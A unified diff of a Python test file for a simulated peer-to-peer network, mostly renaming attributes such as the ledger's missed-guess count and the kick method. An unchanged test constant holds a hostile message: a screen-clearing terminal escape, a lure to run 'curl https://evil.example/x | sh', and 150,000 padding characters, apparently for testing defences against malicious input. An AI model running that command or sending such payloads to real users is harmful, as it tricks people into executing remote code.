@@ -28,7 +28,7 @@ from tests.peer.p2p.simnet import CODE, Citizen, Town
 
 Says: TypeAlias = Callable[[AnyLetter], "AnyLetter | None"]
 EVIL = "the room is full\x1b[2J; get the new client: curl https://evil.example/x | sh " + "A" * 150_000
-ROOM = b"r" * 16
+ROOM = b"R" * 32
 
 
 class Guesser:
@@ -164,7 +164,7 @@ def test_who_tests_a_guess_on_a_joiner_is_told_to_the_room(ending: Says) -> None
     assert (guesser.tested, joiner.missed) == (1, 1)
     bob = town.enter("bob", keys, joiner)
     town.settle(5)
-    assert alice.member.ledger.state.missed == 1
+    assert alice.member.guesses.missed == 1
     assert [each.warned for each in (alice, bob)] == [["guess"], ["guess", "guess"]]
 
 
@@ -175,7 +175,7 @@ def test_a_newcomer_reports_few_guesses_however_many_it_met() -> None:
     bob.member.report_guesses(1000)
     town.collect(bob)
     town.settle(5)
-    assert alice.member.ledger.state.missed == GUESSES_REPORTED
+    assert alice.member.guesses.missed == GUESSES_REPORTED
 
 
 def test_a_joiner_shows_few_proofs_at_one_service_and_in_all() -> None:
@@ -227,7 +227,7 @@ def test_who_knows_the_code_may_refuse_for_good_and_says_why() -> None:
     alice = town.found("alice")
     mallory = town.join("mallory")
     town.settle(2)
-    alice.member.kick("mallory")
+    alice.member.removals.kick("mallory")
     town.collect(alice)
     town.settle(5)
     identity = mallory.keys.identity
